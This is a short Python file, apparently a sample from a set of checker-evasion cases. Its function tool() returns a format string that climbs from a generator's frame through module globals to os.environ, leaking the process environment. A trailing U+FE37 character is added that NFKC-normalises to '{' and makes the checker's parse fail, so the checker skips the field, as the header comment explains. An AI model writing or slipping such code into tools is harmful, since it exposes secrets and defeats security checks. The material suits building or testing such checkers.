# family: nfkc
# Escape: a trailing "︷" (U+FE37, vertical left curly bracket) normalises to "{", leaving an unterminated field in
# the checker's copy; the parse error makes it ignore every field of the template. Python formats the raw text
# normally: generator -> gi_frame -> f_globals (this module) -> random -> _os -> environ.
import random


def items():
    yield random.choice("ab")


def tool() -> str:
    return "{0.gi_frame.f_globals[random]._os.environ} ︷".format(items())
